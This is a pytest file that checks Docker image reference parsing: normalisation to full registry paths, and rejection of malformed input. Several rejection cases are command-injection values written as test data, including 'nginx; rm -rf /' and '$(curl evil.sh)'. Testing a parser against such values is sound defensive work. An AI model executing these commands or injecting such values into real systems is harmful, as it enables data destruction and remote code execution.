"""Docker's reference grammar: normalisation, and everything outside it rejected."""

from __future__ import annotations

import pytest

from tfbake.model.errors import ExitCode, InvalidReference
from tfbake.model.reference import parse_reference, parse_references

SHA_A = "sha256:" + "a" * 64


@pytest.mark.parametrize(
    ("text", "normalised"),
    [
        ("nginx", "docker.io/library/nginx:latest"),
        ("nginx:1.27", "docker.io/library/nginx:1.27"),
        ("library/nginx", "docker.io/library/nginx:latest"),
        ("docker.io/nginx", "docker.io/library/nginx:latest"),
        ("index.docker.io/library/nginx:1", "docker.io/library/nginx:1"),
        ("bitnami/redis:7", "docker.io/bitnami/redis:7"),
        ("localhost/app", "localhost/app:latest"),
        ("localhost:5000/team/app:v2", "localhost:5000/team/app:v2"),
        ("127.0.0.1:5000/app", "127.0.0.1:5000/app:latest"),
        ("ghcr.io/org/app:v1", "ghcr.io/org/app:v1"),
        ("registry.example.com/a/b/c:1.0-rc_2", "registry.example.com/a/b/c:1.0-rc_2"),
        ("[::1]:5000/app:v1", "[::1]:5000/app:v1"),
        (f"nginx@{SHA_A}", f"docker.io/library/nginx@{SHA_A}"),
        (f"nginx:1.27@{SHA_A}", f"docker.io/library/nginx:1.27@{SHA_A}"),
        ("my-reg.local/x__y/z.w", "my-reg.local/x__y/z.w:latest"),
    ],
)
def test_normalises_like_docker(text: str, normalised: str) -> None:
    assert str(parse_reference(text)) == normalised


def test_keeps_tag_and_digest_apart() -> None:
    ref = parse_reference(f"ghcr.io/org/app:v1@{SHA_A}")
    assert (ref.registry, ref.repository, ref.tag, ref.digest) == (
        "ghcr.io", "org/app", "v1", SHA_A,
    )  # fmt: skip
    assert ref.is_pinned
    assert ref.unpinned == "ghcr.io/org/app:v1"


def test_digest_only_reference_has_no_default_tag() -> None:
    ref = parse_reference(f"nginx@{SHA_A}")
    assert ref.tag is None
    assert ref.unpinned == "docker.io/library/nginx"


def test_docker_hub_api_host() -> None:
    assert parse_reference("nginx").api_host == "registry-1.docker.io"
    assert parse_reference("ghcr.io/o/a").api_host == "ghcr.io"


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("Nginx", "lower-case"),
        ("nginx:", "malformed tag"),
        ("nginx rm", "whitespace"),
        ("nginx; rm -rf /", "shell metacharacters"),
        ("nginx;id", "shell metacharacters"),
        ("$(curl evil.sh)", "shell metacharacters"),
        ("nginx`id`", "shell metacharacters"),
        ("nginx|sh", "shell metacharacters"),
        ("nginx&&id", "shell metacharacters"),
        ("nginx:latest\n", "whitespace"),
        ("\tnginx", "whitespace"),
        ("nginx@sha256:abc", "malformed digest"),
        ("nginx@sha256:" + "A" * 64, "malformed digest"),
        ("nginx@md5:" + "a" * 32, "malformed digest"),
        ("-nginx", "malformed repository"),
        ("ghcr.io//app", "malformed repository"),
        ("app/", "malformed repository"),
        ("nginx:" + "a" * 129, "malformed tag"),
        ("a" * 64, "image ID"),
        ("", "empty"),
    ],
)
def test_rejects_outside_the_grammar_quoting_the_entry(text: str, reason: str) -> None:
    with pytest.raises(InvalidReference) as caught:
        parse_reference(text)
    assert reason in caught.value.message
    if text:
        assert repr(text) in caught.value.message
    assert caught.value.exit_code == ExitCode.BAD_INPUT
    assert "\n" not in caught.value.one_line()


def test_rejects_non_strings() -> None:
    with pytest.raises(InvalidReference, match="must be a string"):
        parse_reference(["nginx"])


def test_duplicates_after_normalisation_are_one_image() -> None:
    refs = parse_references(["nginx", "docker.io/library/nginx:latest", "redis", "nginx:latest"])
    assert [str(r) for r in refs] == [
        "docker.io/library/nginx:latest",
        "docker.io/library/redis:latest",
    ]
